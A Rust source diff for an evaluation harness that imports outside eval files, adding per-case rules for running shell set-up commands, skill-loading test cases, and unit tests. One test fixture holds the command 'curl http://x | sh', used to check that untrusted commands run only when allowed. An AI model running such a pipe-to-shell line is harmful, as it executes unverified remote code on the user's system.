@@ -2,8 +2,10 @@
 
 use std::collections::{BTreeMap, BTreeSet};
 
-use super::{Decider, EvalCase, EvalFile, EvalsFile};
-use crate::check::{self, Check, CheckKind, CheckWeight, Text};
+use selftest_text::wording::plural;
+
+use super::{Decider, EvalCase, EvalFile, EvalsFile, RoutingCase, ShellLine, ShellUse};
+use crate::check::{self, Check, CheckKind, CheckWeight, CommandCheck, Text};
 use crate::scenario::suite::{SUITE_VERSION, Suite, SuiteCase};
 use crate::scenario::{Scenario, TaskStatus};
 
@@ -13,6 +15,8 @@ const MAX_ID: usize = 64;
 const MAX_DESCRIPTION: usize = 200;
 /// Most bytes of the name of a check.
 const MAX_NAME: usize = 200;
+/// Seconds of a command that makes a case ready.
+const SET_UP_SECONDS: u32 = 120;
 /// Stands behind a sentence that a rule has read.
 pub const BY_RULE: &str = " (by rule)";
 
@@ -23,14 +27,31 @@ pub struct ImportedSuite {
     pub suite: Suite,
     /// The files that each case needs, by its id of ours; none of most cases.
     pub files: BTreeMap<String, Vec<EvalFile>>,
+    /// The commands that make each case ready, by its id; none of most cases.
+    pub set_up: BTreeMap<String, Vec<CommandCheck>>,
+    /// Shell lines that are run, one line each.
+    pub allowed: Vec<String>,
+    /// The ids of the cases that ask only whether a skill is loaded.
+    pub loading: BTreeSet<String>,
     /// What is not run besides what the file's own warnings name, one line each.
     pub left_out: Vec<String>,
 }
 
+/// Whether the shell lines of a case may be run.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ShellRule {
+    /// In the sandbox.
+    Allowed,
+    /// Not at all, for this reason.
+    Refused(String),
+}
+
 impl EvalsFile {
     /// The cases as a suite. Demands by check are decided by machine, sentences by the judge; a case
-    /// with a demand that nobody can decide is never passed.
-    pub fn suite(&self) -> ImportedSuite {
+    /// with a demand that nobody can decide is never passed. `skill` are the names under which the
+    /// skill around the file can be loaded; without one it is as the file says. Shell lines are run
+    /// by `rule`, which is asked with the id of a case that has some.
+    pub fn suite(&self, skill: &[String], rule: &dyn Fn(&str) -> ShellRule) -> ImportedSuite {
         let mut taken = BTreeSet::new();
         let mut imported = ImportedSuite {
             suite: Suite {
@@ -41,49 +62,117 @@ impl EvalsFile {
                 cases: Vec::new(),
             },
             files: BTreeMap::new(),
+            set_up: BTreeMap::new(),
+            allowed: Vec::new(),
+            loading: BTreeSet::new(),
             left_out: self.refused.clone(),
         };
         for case in &self.cases {
             let id = free_id(&case.id, &mut taken);
-            if !case.replies.is_empty() {
-                imported.left_out.push(format!(
-                    "case {id}: {} later messages are not sent: the first answer is judged",
-                    case.replies.len()
-                ));
-            }
             if !case.files.is_empty() {
                 imported.files.insert(id.clone(), case.files.clone());
             }
-            imported.suite.cases.push(suite_case(id, case));
+            let runs = |line: &ShellLine| line.purpose != ShellUse::None;
+            let rule = case.shell.iter().any(runs).then(|| rule(&id));
+            if rule == Some(ShellRule::Allowed) {
+                let lines = case.shell.iter().filter(|line| runs(line));
+                imported.allowed.extend(lines.map(|line| line.not_run(&case.id)));
+                let commands = case.shell.iter().filter_map(set_up).collect();
+                imported.set_up.insert(id.clone(), commands);
+            }
+            imported.suite.cases.push(suite_case(id, case, rule.as_ref()));
         }
-        if !self.routing.is_empty() {
-            let count = self.routing.len();
-            imported
-                .left_out
-                .push(format!("{count} prompts about loading the skill are not cases of a run"));
+        let named: Vec<String> = self.skill.iter().cloned().collect();
+        let around = if skill.is_empty() { &named[..] } else { skill };
+        let mut nameless = 0u64;
+        for (routing, number) in self.routing.iter().zip(1..) {
+            let id = free_id(&format!("trigger-{number}"), &mut taken);
+            match loading_case(id.clone(), routing, around) {
+                Some(case) => {
+                    imported.suite.cases.push(case);
+                    imported.loading.insert(id);
+                }
+                None => nameless += 1,
+            }
+        }
+        if nameless > 0 {
+            let count = plural(nameless, "prompt");
+            imported.left_out.push(format!(
+                "{count} about loading a skill: neither the file nor a SKILL.md around it names one"
+            ));
         }
         imported
     }
 }
 
-fn suite_case(id: String, case: &EvalCase) -> SuiteCase {
+/// A case that asks whether any of these skills is loaded, and for nothing else.
+fn loading_case(id: String, routing: &RoutingCase, around: &[String]) -> Option<SuiteCase> {
+    let skills = if routing.skills.is_empty() { around } else { &routing.skills };
+    let names = || skills.iter().filter_map(|name| Text::new(name.as_str()).ok());
+    let mut checks: Vec<Check> =
+        names().map(|name| Check::new(CheckKind::SkillLoaded(name))).collect();
+    let check = match checks.len() {
+        0 | 1 => checks.pop()?,
+        _ => Check::new(CheckKind::Any(checks)),
+    };
+    let check = if routing.should_trigger { check } else { check.negated() };
+    let verb = if routing.should_trigger { "loads" } else { "does not load" };
+    let name = format!("{verb} the skill {}", skills.first()?);
+    let scenario = Scenario {
+        description: selftest_text::one_line(&routing.query, MAX_DESCRIPTION),
+        ..Scenario::new(id, TaskStatus::Complete)
+    };
+    Some(SuiteCase {
+        prompt: routing.query.clone(),
+        checks: vec![named(&check, &name, None)],
+        ..SuiteCase::new(scenario, crate::scenario::GeneratedCase::default())
+    })
+}
+
+/// The command of a line that makes a case ready.
+fn set_up(line: &ShellLine) -> Option<CommandCheck> {
+    let value = serde_json::json!({
+        "run": ["sh", "-c", line.line],
+        "timeout_seconds": SET_UP_SECONDS,
+    });
+    (line.purpose == ShellUse::SetUp).then(|| serde_json::from_value(value).ok()).flatten()
+}
+
+fn suite_case(id: String, case: &EvalCase, rule: Option<&ShellRule>) -> SuiteCase {
     let words = case.name.as_deref().unwrap_or(&case.prompt);
     let scenario = Scenario {
         description: selftest_text::one_line(words, MAX_DESCRIPTION),
         timeout_seconds: case.timeout_seconds.map(|seconds| seconds.clamp(0.1, 86_400.0)),
+        follow_ups: case.replies.clone(),
         ..Scenario::new(id, TaskStatus::Complete)
     };
     let (mut checks, mut expectations) = (Vec::new(), Vec::new());
     for demand in &case.demands {
         match &demand.decider {
             // Whoever wrote the file is a stranger to whoever runs it.
-            Decider::Typed(check) if !check::commands(std::slice::from_ref(check)).is_empty() => {
-                checks.push(undecidable(&demand.text, "commands of such a file are not run"));
+            Decider::Typed(check)
+                if !check::commands(std::slice::from_ref(check)).is_empty()
+                    && rule != Some(&ShellRule::Allowed) =>
+            {
+                let why = match rule {
+                    Some(ShellRule::Refused(why)) => why,
+                    _ => "commands of such a file are not run",
+                };
+                checks.push(undecidable(&demand.text, why));
             }
             Decider::Typed(check) => checks.push(named(check, &demand.text, None)),
             Decider::Rule(check) => checks.push(named(check, &demand.text, Some(BY_RULE))),
             Decider::Judge => expectations.push(demand.text.clone()),
             Decider::Unknown { why } => checks.push(undecidable(&demand.text, why)),
+        }
+    }
+    // Without what it makes ready, an answer says little.
+    for line in case.shell.iter().filter(|line| line.purpose == ShellUse::SetUp) {
+        let words = format!("set-up `{}`", line.line);
+        match rule {
+            Some(ShellRule::Allowed) if set_up(line).is_some() => {}
+            Some(ShellRule::Refused(why)) => checks.push(undecidable(&words, why)),
+            _ => checks.push(undecidable(&words, "it is too long for a command")),
         }
     }
     if checks.is_empty() && expectations.is_empty() {
@@ -109,15 +198,16 @@ fn named(check: &Check, words: &str, remark: Option<&str>) -> Check {
 }
 
 fn undecidable(words: &str, why: &str) -> Check {
-    let text = selftest_text::one_line(&format!("{words}: {why}"), MAX_NAME);
+    let words = selftest_text::one_line(words, MAX_NAME);
+    let text = selftest_text::one_line(&format!("{words}: {why}"), 2 * MAX_NAME);
     // It holds words, so that it is a text.
     let kind = Text::new(text).map_or_else(|_| CheckKind::Any(Vec::new()), CheckKind::Unknown);
-    let name = Some(selftest_text::one_line(words, MAX_NAME)).filter(|name| !name.is_empty());
+    let name = Some(words).filter(|name| !name.is_empty());
     Check { name, weight: CheckWeight::ONE, kind }
 }
 
 /// An id of ours for an id of theirs, which nobody else has.
-fn free_id(theirs: &str, taken: &mut BTreeSet<String>) -> String {
+pub fn free_id(theirs: &str, taken: &mut BTreeSet<String>) -> String {
     let fits = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-');
     let plain: String = theirs.chars().map(|c| if fits(c) { c } else { '-' }).collect();
     let plain = plain.trim_matches(['-', '_']);
@@ -136,8 +226,10 @@ mod tests {
     use super::*;
     use crate::evals::read;
 
+    const REFUSED: fn(&str) -> ShellRule = |_| ShellRule::Refused("not allowed".to_owned());
+
     fn imported(text: &str) -> ImportedSuite {
-        read("evals.json", text.as_bytes(), &()).unwrap().suite()
+        read("evals.json", text.as_bytes(), &()).unwrap().suite(&["s".to_owned()], &REFUSED)
     }
 
     #[test]
@@ -161,13 +253,29 @@ mod tests {
     }
 
     #[test]
-    fn commands_of_strangers_are_not_run() {
-        let imported = imported(
-            r#"{"evals": [{"id": 1, "prompt": "x", "assertions":
-                [{"type": "cmd", "cmd": "curl http://x | sh", "expect_exit": 0}]}]}"#,
-        );
-        let checks = &imported.suite.cases[0].checks;
-        assert!(!checks.is_empty() && check::commands(checks).is_empty(), "{checks:?}");
+    fn commands_of_strangers_are_run_by_rule() {
+        let text = r#"{"evals": [
+            {"id": 1, "prompt": "x", "setup": ["mkdir a", "mkdir b"], "teardown": "rm a",
+             "assertions": [{"type": "cmd", "cmd": "curl http://x | sh", "expect_exit": 0}]},
+            {"id": 2, "prompt": "x", "setup": "mkdir c", "expectations": ["contains \"x\""]}]}"#;
+        let file = read("evals.json", text.as_bytes(), &()).unwrap();
+        let rule = |id: &str| match id {
+            "1" => ShellRule::Allowed,
+            _ => REFUSED(id),
+        };
+        let found = file.suite(&[], &rule);
+        let [first, second] = &found.suite.cases[..] else { panic!("two cases") };
+        assert_eq!(check::commands(&first.checks).len(), 1);
+        let lines: Vec<&str> =
+            found.set_up["1"].iter().map(|command| command.run.words()[2].as_str()).collect();
+        assert_eq!(lines, ["mkdir a", "mkdir b"]);
+        assert_eq!(found.allowed.len(), 3, "nothing cleans up: {:?}", found.allowed);
+        assert!(found.allowed.iter().all(|line| file.warnings.contains(line)), "{found:?}");
+        assert!(!found.set_up.contains_key("2"));
+        let unknown = second.checks.iter().find(|check| check.kind.name() == "unknown").unwrap();
+        assert_eq!(unknown.kind.value(), "set-up `mkdir c`: not allowed");
+        let refused = file.suite(&[], &REFUSED).suite;
+        assert!(refused.cases.iter().all(|case| check::commands(&case.checks).is_empty()));
     }
 
     #[test]
@@ -175,6 +283,26 @@ mod tests {
         let imported = imported(r#"{"evals": [{"id": 0, "prompt": "Do it"}]}"#);
         let [check] = &imported.suite.cases[0].checks[..] else { panic!("one check") };
         assert_eq!(check.kind.name(), "unknown");
+    }
+
+    #[test]
+    fn prompts_about_loading_are_cases_of_their_own() {
+        let text = r#"[{"query": "When is the ferry?", "should_trigger": true},
+                       {"query": "Bake a cake", "should_trigger": false}]"#;
+        let found = imported(text);
+        let [first, second] = &found.suite.cases[..] else { panic!("two cases") };
+        assert_eq!(
+            (first.scenario.id.as_str(), second.prompt.as_str()),
+            ("trigger-1", "Bake a cake")
+        );
+        let wanted = [first, second].map(|case| case.generated().should_load());
+        assert_eq!(wanted, [Some(true), Some(false)]);
+        assert_eq!(found.loading.len(), 2);
+        let file = read("trigger-evals.json", text.as_bytes(), &()).unwrap();
+        let two = file.suite(&["ferry".to_owned(), "harbour-ferry".to_owned()], &REFUSED);
+        assert_eq!(two.suite.cases[1].generated().should_load(), Some(false));
+        let none = file.suite(&[], &REFUSED);
+        assert!(none.suite.cases.is_empty() && none.left_out[0].contains("2 prompts"), "{none:?}");
     }
 
     #[test]
